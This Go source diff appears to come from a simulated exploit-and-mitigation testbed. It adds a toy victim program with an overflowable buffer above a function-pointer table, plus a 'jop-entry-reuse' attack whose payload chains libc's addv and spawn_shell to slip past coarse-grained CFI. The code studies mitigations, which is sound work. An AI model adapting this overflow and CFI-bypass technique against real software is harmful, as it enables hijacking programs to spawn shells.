@@ -26,6 +26,7 @@ type Recon struct {
 	Exit        uint32
 	Pop4Gadget  uint32 // pop×4; ret (argument skipper)
 	Puts        uint32 // libc puts — the code-corruption target
+	Addv        uint32 // libc addv — a harmless entry a JOP chain flows through
 	DataScratch uint32 // writable scratch cell in .data
 	StartRet    uint32 // return address main's frame holds (into _start)
 	Canary      uint32 // the predictable default canary
@@ -52,6 +53,7 @@ func ReconNominal(s Scenario, m Mitigations) (Recon, error) {
 	}
 	r.SpawnShell = get("spawn_shell")
 	r.Puts = get("puts")
+	r.Addv = get("addv")
 	r.Syscall3 = get("syscall3")
 	r.Exit = get("exit")
 	if err != nil {
@@ -233,6 +235,37 @@ void main() {
 	read(0, name, 24); // overflows into handler
 	int *f = handler;
 	f(); // control-flow hijack point
+}`
+
+// victimFnTable dispatches through a table of function pointers sitting
+// right above an overflowable static buffer — the substrate of a
+// JOP/function-reuse chain. Unlike victimFnPtr's single pointer, the
+// overflow rewrites a *sequence* of indirect-call targets, so the hijack
+// can chain through legitimate function entries: the defining move of the
+// attacks that bypass coarse-grained CFI (every hop lands on a real
+// entry, so a "calls may only target function entries" check never
+// fires), while fine-grained CFI refuses the first hop because the reused
+// entries are not in the program's address-taken dictionary.
+const victimFnTable = `
+char name[32];
+int *actions[2];
+
+int hello() {
+	write(1, "hello ", 6);
+	return 0;
+}
+int bye() {
+	write(1, "bye", 3);
+	return 0;
+}
+void main() {
+	actions[0] = hello;
+	actions[1] = bye;
+	read(0, name, 44); // overflows through both table slots
+	int *f = actions[0];
+	f(); // hop 1
+	f = actions[1];
+	f(); // hop 2
 }`
 
 // victimHeapUAF frees a privilege-bearing object too early; the attacker's
@@ -447,6 +480,24 @@ func Attacks() []AttackSpec {
 			Build: func(r Recon, m Mitigations) kernel.InputSource {
 				// 16 bytes of name, then the handler slot = spawn_shell.
 				payload := append(bytes.Repeat([]byte{'x'}, 16), words(r.SpawnShell)...)
+				return &kernel.ScriptInput{payload}
+			},
+		},
+		{
+			Name:      "jop-entry-reuse",
+			Technique: "code reuse (JOP/function-reuse chain, coarse-CFI bypass)",
+			Victim:    victimFnTable,
+			Goal:      shelled,
+			Build: func(r Recon, m Mitigations) kernel.InputSource {
+				// Rewrite both dispatch-table slots with *legitimate
+				// function entries*: hop 1 flows through libc's addv
+				// (harmless, returns), hop 2 lands on spawn_shell.
+				// Every hijacked edge targets a real entry, which is
+				// exactly what coarse-grained CFI cannot distinguish
+				// from honest indirection — and what fine-grained CFI
+				// refuses, because neither entry is address-taken.
+				payload := append(bytes.Repeat([]byte{'x'}, 32),
+					words(r.Addv, r.SpawnShell)...)
 				return &kernel.ScriptInput{payload}
 			},
 		},
